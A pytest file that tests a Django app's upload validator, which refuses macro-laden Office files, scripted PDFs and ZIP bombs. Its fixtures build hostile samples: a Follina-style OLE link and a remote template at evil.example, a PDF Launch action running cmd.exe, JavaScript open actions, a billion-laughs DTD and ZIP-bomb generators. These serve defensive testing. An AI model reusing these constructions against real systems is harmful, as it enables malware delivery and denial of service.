"""Supporting documents: type checked by content, 20 MB at most, names made safe; no macros,
scripts or other active content; no ZIP that inflates beyond what is checked."""

import io
import random
import struct
import tracemalloc
import zipfile
import zlib

import pytest
from django.core.exceptions import PermissionDenied, ValidationError

from questionnaire import filetypes, services
from tests import factories

pytestmark = pytest.mark.django_db


def zip_bytes(members: dict[str, bytes], *, first: str | None = None) -> io.BytesIO:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        if first:
            archive.writestr(first, members.pop(first), compress_type=zipfile.ZIP_STORED)
        for name, data in members.items():
            archive.writestr(name, data)
    buffer.seek(0)
    return buffer


def ooxml(main_type: str) -> io.BytesIO:
    types = f'<Types><Override PartName="/x.xml" ContentType="{main_type}"/></Types>'
    return zip_bytes({"[Content_Types].xml": types.encode(), "x.xml": b"<x/>"})


DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
XLSM = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"


@pytest.mark.parametrize(
    ("stream", "kind"),
    [
        (lambda: io.BytesIO(factories.pdf_bytes()), "pdf"),
        (lambda: ooxml(DOCX), "docx"),
        (lambda: ooxml(XLSX), "xlsx"),
        (
            lambda: zip_bytes(
                {"mimetype": b"application/vnd.oasis.opendocument.text", "content.xml": b"<x/>"},
                first="mimetype",
            ),
            "odt",
        ),  # fmt: skip
        (lambda: ooxml(XLSM), None),
        (lambda: zip_bytes({"a.txt": b"hello"}), None),
        (lambda: io.BytesIO(b"MZ\x90\x00 executable"), None),
        (lambda: io.BytesIO(b"<html><script>alert(1)</script>"), None),
        (lambda: io.BytesIO(b"%PDF-1.7\n<html><script>alert(1)</script></html>"), None),
        (lambda: io.BytesIO(b"PK\x03\x04 broken zip"), None),
    ],
)
def test_kind_is_detected_by_content(stream, kind):
    try:
        found = filetypes.check(stream())
    except filetypes.Refused:
        found = None
    assert found == kind


def test_a_document_is_stored_with_a_safe_name(submission, contributor, tmp_path, settings):
    settings.MEDIA_ROOT = tmp_path
    attachment = services.attachment_add(
        submission=submission, file=io.BytesIO(factories.pdf_bytes()),
        name="../../etc/Plan d'action.pdf.exe", user=contributor,
    )  # fmt: skip
    assert attachment.original_name == "Plan d'action.pdf.pdf"
    assert attachment.kind == "pdf"
    assert ".." not in attachment.file.name
    assert attachment.file.read() == factories.pdf_bytes()


def test_a_renamed_file_is_refused(submission, contributor, tmp_path, settings):
    settings.MEDIA_ROOT = tmp_path
    with pytest.raises(ValidationError, match="not a PDF"):
        services.attachment_add(
            submission=submission, file=io.BytesIO(b"MZ fake"), name="report.pdf",
            user=contributor,
        )  # fmt: skip
    assert not submission.attachments.exists()
    assert not list(tmp_path.rglob("*"))


def test_a_file_over_20_mb_is_refused(submission, contributor, tmp_path, settings):
    settings.MEDIA_ROOT = tmp_path
    big = io.BytesIO(b"%PDF-" + b"0" * (20 * 1024 * 1024))
    with pytest.raises(ValidationError, match="20 MB"):
        services.attachment_add(submission=submission, file=big, name="big.pdf", user=contributor)
    assert not submission.attachments.exists()


@pytest.mark.parametrize("role", ["viewer", "other_focal_point", "reviewer"])
def test_only_editors_attach(request, submission, role, tmp_path, settings):
    settings.MEDIA_ROOT = tmp_path
    with pytest.raises(PermissionDenied):
        services.attachment_add(
            submission=submission, file=io.BytesIO(factories.pdf_bytes()), name="a.pdf",
            user=request.getfixturevalue(role),
        )  # fmt: skip


def refusal(stream) -> str:
    with pytest.raises(filetypes.Refused) as refused:
        filetypes.check(stream)
    return refused.value.reason


# --- Office documents with macros or other active content ----------------------------------------

DOCM = "application/vnd.ms-word.document.macroEnabled.main+xml"
VBA = "application/vnd.ms-office.vbaProject"


def office(
    overrides: dict[str, str], parts: dict[str, bytes] = (), defaults: dict[str, str] = ()
) -> io.BytesIO:
    """An OOXML package: [Content_Types].xml with these overrides (part → type) and defaults
    (extension → type), each overridden part present, and any further parts."""
    types = "".join(
        f'<Default Extension="{e}" ContentType="{t}"/>' for e, t in dict(defaults).items()
    )
    types += "".join(f'<Override PartName="/{p}" ContentType="{t}"/>' for p, t in overrides.items())
    xmlns = "http://schemas.openxmlformats.org/package/2006/content-types"
    members = {"[Content_Types].xml": f'<Types xmlns="{xmlns}">{types}</Types>'.encode()}
    members |= dict.fromkeys(overrides, b"<x/>")
    members |= dict(parts)
    return zip_bytes(members)


def relationships(*relations: tuple[str, str, str]) -> bytes:
    """A .rels part: (type, target, target mode) each."""
    ns = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    rows = "".join(
        f'<Relationship Id="r{i}" Type="{ns}/{kind}" Target="{target}"'
        + (f' TargetMode="{mode}"' if mode else "")
        + "/>"
        for i, (kind, target, mode) in enumerate(relations)
    )
    return (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f"{rows}</Relationships>"
    ).encode()


@pytest.mark.parametrize(
    "stream",
    [
        # A macro-enabled Word file with one dummy part of the DOCX type beside its own.
        lambda: office(
            {"word/document.xml": DOCM, "word/dummy.xml": DOCX},
            {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0 macros"},
            {"bin": VBA},
        ),
        # The same without the dummy: the type alone says macros.
        lambda: office({"word/document.xml": DOCM}),
        # A DOCX by its main type, carrying the macros' part (under any name case).
        lambda: office({"word/document.xml": DOCX}, {"word/VBAProject.bin": b"\xd0\xcf macros"}),
        # ... or a part percent-escaped in its name (Office unescapes part names).
        lambda: office({"word/document.xml": DOCX}, {"word/vba%50roject.bin": b"\xd0\xcf"}),
        # ... or under another name, declared as macros by its content type.
        lambda: office({"word/document.xml": DOCX, "word/code.bin": VBA}),
        # ... or linked as macros from the document's relationships.
        lambda: office(
            {"word/document.xml": DOCX},
            {
                "word/code.bin": b"\xd0\xcf",
                "word/_rels/document.xml.rels": relationships(("vbaProject", "code.bin", "")),
            },
        ),
        # A DOCX with an ActiveX control.
        lambda: office(
            {
                "word/document.xml": DOCX,
                "word/activeX/activeX1.xml": "application/vnd.ms-office.activeX+xml",
            },
            {"word/activeX/activeX1.bin": b"\xd0\xcf control"},
        ),
        # An XLSM renamed .xlsx.
        lambda: office(
            {"xl/workbook.xml": "application/vnd.ms-excel.sheet.macroEnabled.main+xml"},
            {"xl/vbaProject.bin": b"\xd0\xcf macros"},
        ),
        # Excel 4 macros in an XLSX.
        lambda: office(
            {
                "xl/workbook.xml": XLSX,
                "xl/macrosheets/sheet1.xml": "application/vnd.ms-excel.macrosheet+xml",
            }
        ),
        # A linked OLE object fetched when the document opens ("Follina", CVE-2022-30190).
        lambda: office(
            {"word/document.xml": DOCX},
            {
                "word/_rels/document.xml.rels": relationships(
                    ("oleObject", "mhtml:http://evil.example/x.html!x-usc:http://evil", "External")
                )
            },
        ),
        # A template from the web, which brings its macros with it.
        lambda: office(
            {"word/document.xml": DOCX},
            {
                "word/_rels/settings.xml.rels": relationships(
                    ("attachedTemplate", "https://evil.example/t.dotm", "External")
                )
            },
        ),
        # OpenDocument text with Basic macros.
        lambda: zip_bytes(
            {
                "mimetype": b"application/vnd.oasis.opendocument.text",
                "content.xml": b"<x/>",
                "Basic/Standard/Module1.xml": b"<script:module/>",
            },
            first="mimetype",
        ),
    ],
)
def test_active_content_in_office_documents_is_refused(stream):
    assert refusal(stream()) == filetypes.ACTIVE_CONTENT


def test_a_docx_based_on_a_template_on_the_authors_computer_is_accepted():
    stream = office(
        {"word/document.xml": DOCX},
        {
            "word/_rels/settings.xml.rels": relationships(
                ("attachedTemplate", "file:///C:/Users/me/Templates/Report.dotx", "External"),
                ("hyperlink", "https://www.unescwa.org/", "External"),
            )
        },
    )
    assert filetypes.check(stream) == "docx"


def test_a_genuine_docx_is_accepted():
    """As Word writes one: namespaces, defaults and overrides, relationships, a large part."""
    text = "".join(
        f"<w:p><w:r><w:t>Paragraph {n} of the national report.</w:t></w:r></w:p>"
        for n in range(60_000)
    )
    stream = office(
        {
            "word/document.xml": DOCX,
            "word/styles.xml": DOCX.replace("document.main", "styles"),
        },
        {
            "_rels/.rels": relationships(("officeDocument", "word/document.xml", "")),
            "word/_rels/document.xml.rels": relationships(
                ("styles", "styles.xml", ""), ("hyperlink", "https://www.un.org/", "External")
            ),
            "word/media/image1.png": b"\x89PNG" + bytes(range(256)) * 100,
            "word/document.xml": f"<w:document><w:body>{text}</w:body></w:document>".encode(),
        },
        {"rels": "application/vnd.openxmlformats-package.relationships+xml", "png": "image/png"},
    )
    assert filetypes.check(stream) == "docx"


def test_xml_with_a_document_type_is_refused():
    """The entities of a "billion laughs" are never expanded: no DTD is read at all."""
    laughs = (
        '<?xml version="1.0"?><!DOCTYPE Types [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]>'
        f'<Types><Override PartName="/word/document.xml" ContentType="{DOCX}"/>&b;</Types>'
    )
    stream = zip_bytes({"[Content_Types].xml": laughs.encode(), "word/document.xml": b"<x/>"})
    assert refusal(stream) == filetypes.DAMAGED


# --- ZIP bombs -----------------------------------------------------------------------------------

MB = 1024 * 1024


def content_types_bomb(padding: int) -> io.BytesIO:
    """A DOCX whose [Content_Types].xml is padded with spaces: kilobytes that inflate to
    `padding` bytes."""
    types = f'<Types><Override PartName="/word/document.xml" ContentType="{DOCX}"/>'.encode()
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("[Content_Types].xml", types + b" " * padding + b"</Types>")
        archive.writestr("word/document.xml", b"<w:document/>")
    buffer.seek(0)
    return buffer


def declaring(stream: io.BytesIO, member: str, size: int) -> io.BytesIO:
    """The archive with `member`'s declared inflated size changed to `size` (in its local header
    and in the central directory), its data as it was."""
    data = bytearray(stream.getvalue())
    name = member.encode()
    for signature, field in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        header = 30 if signature == b"PK\x03\x04" else 46
        at = 0
        while (at := data.find(signature, at)) >= 0:
            length = struct.unpack_from("<H", data, at + header - 18 if header == 30 else at + 28)[
                0
            ]
            if data[at + header : at + header + length] == name:
                struct.pack_into("<I", data, at + field, size)
            at += 4
    return io.BytesIO(bytes(data))


def peak_memory(function, *args):
    """What `function(*args)` allocates at most, in bytes (Python's allocations: what a
    bytes object of the inflated part would take)."""
    tracemalloc.start()
    try:
        function(*args)
    except filetypes.Refused:
        pass
    finally:
        peak = tracemalloc.get_traced_memory()[1]
        tracemalloc.stop()
    return peak


@pytest.mark.parametrize(
    ("stream", "reason"),
    [
        # Each member's inflated size is checked before anything is inflated: 50 MB of spaces in
        # some tens of kilobytes.
        (lambda: content_types_bomb(50 * MB), filetypes.TOO_COMPLEX),
        # The same, claiming to inflate to 100 bytes: inflating stops at the 101st.
        (
            lambda: declaring(content_types_bomb(50 * MB), "[Content_Types].xml", 100),
            filetypes.DAMAGED,
        ),
        # A member that packs tightly and inflates to 20 MB: no document packs 1,000 to 1.
        (
            lambda: zip_bytes({"[Content_Types].xml": b"<Types/>", "word/x.bin": bytes(20 * MB)}),
            filetypes.TOO_COMPLEX,
        ),
    ],
)
def test_a_zip_bomb_is_refused_without_being_inflated(stream, reason):
    bomb = stream()
    assert len(bomb.getvalue()) < 200 * 1024
    assert refusal(bomb) == reason
    # Loose bound: the bomb inflates to 50 MB; checking it takes well under 1 MB.
    assert peak_memory(filetypes.check, bomb) < 2 * MB


def test_an_upload_of_a_zip_bomb_costs_little_memory(submission, contributor, tmp_path, settings):
    """The finding: a 189 KB DOCX inflating to 190 MB was stored, at 350-400 MB of memory per
    upload (its [Content_Types].xml read whole, then decoded)."""
    settings.MEDIA_ROOT = tmp_path
    bomb = content_types_bomb(190 * MB)
    peak = peak_memory(
        lambda: pytest.raises(ValidationError, services.attachment_add, submission=submission,
                              file=bomb, name="bomb.docx", user=contributor)
    )  # fmt: skip
    assert peak < 20 * MB
    assert not submission.attachments.exists()


def test_the_inflated_total_and_the_number_of_members_are_capped(monkeypatch):
    members = {"[Content_Types].xml": b"<Types/>"}
    many = zip_bytes(members | {f"m/{n}.xml": b"" for n in range(filetypes.MAX_ZIP_MEMBERS)})
    assert refusal(many) == filetypes.TOO_COMPLEX
    # Members that each pack honestly (2 to 1) but together inflate beyond the limit.
    monkeypatch.setattr(filetypes, "MAX_UNPACKED", 4 * MB)
    halves = {f"m/{n}.bin": random.Random(n).randbytes(MB // 2) + bytes(MB // 2) for n in range(5)}
    assert refusal(zip_bytes(members | halves)) == filetypes.TOO_COMPLEX


def test_a_part_that_is_read_may_not_exceed_a_megabyte():
    varied = b"".join(b'<Default Extension="e%d" ContentType="x/y"/>' % n for n in range(40_000))
    stream = zip_bytes(
        {"[Content_Types].xml": b"<Types>" + varied + b"</Types>", "word/document.xml": b"<x/>"}
    )
    assert refusal(stream) == filetypes.TOO_COMPLEX


def test_a_member_shorter_than_declared_is_refused():
    stream = office({"word/document.xml": DOCX}, {"word/media/a.png": b"\x89PNG" * 100})
    assert refusal(declaring(stream, "word/media/a.png", 1000)) == filetypes.DAMAGED


# --- PDFs ----------------------------------------------------------------------------------------


def raw_pdf(objects: dict[int, bytes], *, packed=()) -> io.BytesIO:
    """A PDF 1.5 written by hand: `objects` (number → body), object 1 the catalogue; those in
    `packed` go into a compressed object stream, as many PDF writers store their objects."""
    out = bytearray(b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n")
    size = max(objects) + 1
    stream_number, xref_number = size, size + 1
    offsets, index = {}, {}
    for number, body in sorted(objects.items()):
        if number not in packed:
            offsets[number] = len(out)
            out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    if packed:
        head, data = [], bytearray()
        for i, number in enumerate(sorted(packed)):
            head.append(b"%d %d" % (number, len(data)))
            data += objects[number] + b"\n"
            index[number] = i
        first = b" ".join(head) + b"\n"
        content = zlib.compress(first + data)
        offsets[stream_number] = len(out)
        out += b"%d 0 obj\n<</Type/ObjStm/N %d/First %d/Filter/FlateDecode/Length %d>>stream\n" % (
            stream_number, len(packed), len(first), len(content)
        )  # fmt: skip
        out += content + b"\nendstream\nendobj\n"
    offsets[xref_number] = len(out)
    rows = bytearray()
    for number in range(xref_number + 1):
        if number in offsets:
            rows += struct.pack(">BIH", 1, offsets[number], 0)
        elif number in index:
            rows += struct.pack(">BIH", 2, stream_number, index[number])
        else:
            rows += struct.pack(">BIH", 0, 0, 0xFFFF if number == 0 else 0)
    out += b"%d 0 obj\n<</Type/XRef/Size %d/W[1 4 2]/Root 1 0 R/Length %d>>stream\n" % (
        xref_number, xref_number + 1, len(rows)
    )  # fmt: skip
    out += bytes(rows) + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % offsets[xref_number]
    return io.BytesIO(bytes(out))


def one_page(catalogue: bytes = b"", page: bytes = b"", **extra: bytes) -> dict[int, bytes]:
    """A one-page PDF's objects, with more in the catalogue's or the page's dictionary."""
    return {
        1: b"<</Type/Catalog/Pages 2 0 R" + catalogue + b">>",
        2: b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        3: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]" + page + b">>",
        **{int(k[1:]): v for k, v in extra.items()},
    }


@pytest.mark.parametrize(
    "stream",
    [
        # Script run when the document opens.
        lambda: raw_pdf(one_page(b"/OpenAction 4 0 R", o4=b"<</S/JavaScript/JS(app.alert(1))>>")),
        # The same with its names escaped, inside a compressed object stream.
        lambda: raw_pdf(
            one_page(b"/OpenAction 4 0 R", o4=b"<</S/J#61vaScript/J#53(app.alert(1))>>"),
            packed={1, 4},
        ),
        # Document-level scripts.
        lambda: raw_pdf(
            one_page(b"/Names<</JavaScript<</Names[(a) 4 0 R]>>>>", o4=b"<</S/JavaScript>>")
        ),
        # A link that starts a program.
        lambda: raw_pdf(
            one_page(
                page=b"/Annots[4 0 R]",
                o4=b"<</Type/Annot/Subtype/Link/Rect[0 0 9 9]"
                b"/A<</S/Launch/F(cmd.exe)/Win<</F(cmd.exe)>>>>>>",
            )
        ),
        # An action when the page opens.
        lambda: raw_pdf(one_page(page=b"/AA<</O<</S/URI/URI(http://evil.example/)>>>>")),
        # An attached file.
        lambda: raw_pdf(
            one_page(
                b"/Names<</EmbeddedFiles<</Names[(x.exe) 4 0 R]>>>>",
                o4=b"<</Type/Filespec/F(x.exe)/EF<</F 5 0 R>>>>",
                o5=b"<</Type/EmbeddedFile/Length 2>>stream\nMZ\nendstream",
            )
        ),
    ],
)
def test_pdfs_with_scripts_or_actions_are_refused(stream):
    assert refusal(stream()) == filetypes.PDF_ACTIVE_CONTENT


@pytest.mark.parametrize(
    "content",
    [
        b"%PDF-1.7\n<!doctype html><html><script>alert(1)</script></html>",
        b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n",
        factories.pdf_bytes()[:200],  # cut short
    ],
)
def test_a_file_that_only_starts_like_a_pdf_is_refused(content):
    assert refusal(io.BytesIO(content)) == filetypes.PDF_DAMAGED


def test_an_encrypted_pdf_is_refused():
    from pypdf import PdfWriter

    writer = PdfWriter()
    writer.add_blank_page(width=200, height=200)
    writer.encrypt("secret", algorithm="RC4-128")
    buffer = io.BytesIO()
    writer.write(buffer)
    assert refusal(buffer) == filetypes.PDF_ENCRYPTED


def test_genuine_pdfs_are_accepted():
    """One from pypdf, one from WeasyPrint (with a link, an outline and several pages), one
    written by hand with its objects in a compressed object stream and a link to a web page."""
    import weasyprint

    html = "<h1>National report</h1><p><a href='https://www.unescwa.org/'>ESCWA</a></p>" * 30
    rendered = weasyprint.HTML(string=html).write_pdf()
    link = b"<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI(https://www.un.org/)>>>>"
    for content in (
        factories.pdf_bytes(pages=3),
        rendered,
        raw_pdf(one_page(b"/OpenAction[3 0 R/Fit]", b"/Annots[4 0 R]", o4=link), packed={1, 3, 4})
        .getvalue(),
    ):  # fmt: skip
        assert filetypes.check(io.BytesIO(content)) == "pdf"


def test_a_pdf_of_too_many_objects_is_refused_before_they_are_read(monkeypatch):
    objects = one_page(**{f"o{n}": b"<</N %d>>" % n for n in range(4, 12)})
    monkeypatch.setattr(filetypes, "PDF_MAX_OBJECTS", 10)
    assert refusal(raw_pdf(objects)) == filetypes.TOO_COMPLEX
    monkeypatch.undo()
    monkeypatch.setattr(filetypes, "PDF_MAX_OBJECTS_PER_STREAM", 5)
    assert refusal(raw_pdf(objects, packed=set(range(4, 12)))) == filetypes.TOO_COMPLEX
    assert filetypes.check(raw_pdf(objects, packed={4, 5, 6})) == "pdf"


def test_a_pdf_object_stream_is_decoded_up_to_two_megabytes():
    padded = one_page(o4=b"<</Padding(" + b"x" * (3 * MB) + b")>>")
    assert refusal(raw_pdf(padded, packed={4})) == filetypes.TOO_COMPLEX


def test_reading_a_pdf_stops_after_a_while(monkeypatch):
    monkeypatch.setattr(filetypes, "PDF_MAX_SECONDS", -1)
    assert refusal(io.BytesIO(factories.pdf_bytes())) == filetypes.TOO_COMPLEX


# --- What the person uploading is told -----------------------------------------------------------


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (lambda: office({"word/document.xml": DOCM}), "contains macros or active content"),
        (
            lambda: raw_pdf(one_page(b"/OpenAction<</S/JavaScript/JS(x)>>")),
            "This PDF contains scripts",
        ),
        (lambda: io.BytesIO(b"%PDF-1.4\n<html></html>"), "damaged or is not really a PDF"),
        (lambda: content_types_bomb(50 * MB), "too large or too complex"),
        (lambda: io.BytesIO(b"PK\x03\x04 broken zip"), "This file is damaged"),
    ],
)
def test_each_refusal_says_why(submission, contributor, tmp_path, settings, content, message):
    settings.MEDIA_ROOT = tmp_path
    with pytest.raises(ValidationError, match=message):
        services.attachment_add(
            submission=submission, file=content(), name="x.docx", user=contributor
        )
    assert not submission.attachments.exists()
    assert not list(tmp_path.rglob("*"))


def test_every_refusal_has_its_message():
    messages = [services.attachments.refusal_message(reason) for reason in filetypes.REASONS]
    assert len(set(messages)) == len(filetypes.REASONS)
